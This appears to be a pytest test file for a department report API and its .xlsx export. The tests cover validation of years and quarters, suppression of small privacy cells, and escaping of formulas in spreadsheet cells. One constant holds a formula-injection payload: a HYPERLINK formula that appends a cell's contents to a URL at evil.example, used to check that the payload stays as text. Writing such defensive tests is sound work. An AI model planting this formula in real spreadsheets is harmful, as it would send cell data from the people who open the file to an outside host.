"""The Department's report over HTTP (GET /v1/reports/department and .xlsx): the figures are
the library's, bad years and quarters are refused naming the field, a provider whose name
is a formula stays text in the file, and no group cell under the threshold is written."""

from __future__ import annotations

import io
from contextlib import contextmanager
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from matcher.review.department import SMALL_CELL, department_report
from matcher.safe_cells import TRIGGERS
from matcher.store.db import transaction
from matcher.store.tables import Option, Placement, Provider

STAFF = "canbo.chuongtrinh"
FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Cơ sở")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _busiest_quarter(db) -> tuple[int, int]:
    """The demo world's last quarter with placements started in it, up to today (other
    tests on the shared server accept referrals whose start lies ahead)."""
    with transaction(db) as s:
        last = s.scalar(select(Placement.start_date).where(Placement.start_date <= date.today())
                        .order_by(Placement.start_date.desc()).limit(1))
    return last.year, (last.month - 1) // 3 + 1


@contextmanager
def _provider_named(db, year: int, quarter: int, name: str):
    """The provider of a placement started in the quarter renamed; put back afterwards."""
    first = date(year, 3 * quarter - 2, 1)
    with transaction(db) as s:
        pid = s.scalar(select(Option.provider_id).join(
            Placement, Placement.option_id == Option.option_id)
            .where(Placement.start_date >= first).order_by(Placement.start_date).limit(1))
        was = s.get(Provider, pid).name
        s.execute(update(Provider).where(Provider.provider_id == pid).values(name=name))
    try:
        yield pid
    finally:
        with transaction(db) as s:
            s.execute(update(Provider).where(Provider.provider_id == pid).values(name=was))


def test_the_answer_is_the_library_s_figures(api, db):
    year, quarter = _busiest_quarter(db)
    with api.client(STAFF) as c:
        r = c.get("/v1/reports/department", params={"year": year, "quarter": quarter})
    assert r.status_code == 200, r.text
    body = r.json()
    with transaction(db) as s:
        expected = department_report(s, year, quarter)
    assert body["total"]["values"] == expected.total["values"]
    assert body["total"]["values"]["referred"] > 0
    assert isinstance(body["total"]["values"]["clubs_joined"], int)  # counted, 0 or more
    assert [g["group"] for g in body["by_group"]] == [g["group"] for g in expected.by_group]
    assert body["small_cell"] == SMALL_CELL and body["quarter"] == quarter
    for row in body["by_group"]:
        for measure, value in row["values"].items():
            assert value is None or value == 0 or measure == "income_vnd_day" \
                or value >= SMALL_CELL, (row["group"], measure, value)


def test_a_whole_year_when_no_quarter_is_given(api):
    with api.client(STAFF) as c:
        r = c.get("/v1/reports/department", params={"year": 2025})
    assert r.status_code == 200, r.text
    assert r.json()["quarter"] is None
    assert (r.json()["start"], r.json()["end"]) == ("2025-01-01", "2025-12-31")


@pytest.mark.parametrize(("params", "field"), [
    ({"year": 1999, "quarter": 1}, "query.year"),
    ({"year": 2101}, "query.year"),
    ({"year": "20x5"}, "query.year"),
    ({"quarter": 1}, "query.year"),
    ({"year": 2025, "quarter": 0}, "query.quarter"),
    ({"year": 2025, "quarter": 5}, "query.quarter"),
    ({"year": 2025, "quarter": "first"}, "query.quarter"),
])
@pytest.mark.parametrize("path", ["/v1/reports/department", "/v1/reports/department.xlsx"])
def test_bad_years_and_quarters_are_refused_naming_the_field(api, path, params, field):
    with api.client(STAFF) as c:
        r = c.get(path, params=params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.json()["field"] == field


def test_a_provider_named_as_a_formula_stays_text_in_the_file(api, db):
    year, quarter = _busiest_quarter(db)
    with _provider_named(db, year, quarter, FORMULA), api.client(STAFF) as c:
        r = c.get("/v1/reports/department.xlsx", params={"year": year, "quarter": quarter})
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"] == XLSX
    assert "attachment" in r.headers["content-disposition"]
    book = load_workbook(io.BytesIO(r.content))
    cells = [(sheet.title, cell) for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row]
    texts = [cell.value for _, cell in cells if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts  # the name is there, as text
    for title, cell in cells:
        assert cell.data_type != "f", (title, cell.coordinate, cell.value)
        assert not (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)), (
            title, cell.coordinate, cell.value)


def test_no_group_cell_of_the_file_is_under_the_threshold(api, db):
    year, quarter = _busiest_quarter(db)
    with api.client(STAFF) as c:
        r = c.get("/v1/reports/department.xlsx",
                  params={"year": year, "quarter": quarter, "lang": "en"})
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["Summary", "By group", "By place", "By provider"]
    sheet = book["By group"]
    header = [c.value for c in sheet[1]]
    income = header.index("Average income (VND a day)")
    hidden = 0
    for row in sheet.iter_rows(min_row=2, max_row=10):
        assert row[0].value  # a group's words, never a code
        for k, cell in enumerate(row[1:], start=1):
            if k == income:
                continue
            value = cell.value
            hidden += value == f"<{SMALL_CELL}"
            assert value in (0, f"<{SMALL_CELL}", "—") or value >= SMALL_CELL, (
                row[0].value, header[k], value)
    assert hidden > 0, "the demo quarter hides nothing: the rule goes untested"
    rule = [c.value for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str) and "Privacy" in c.value]
    assert rule and f"<{SMALL_CELL}" in rule[0]  # the rule is written in the sheet
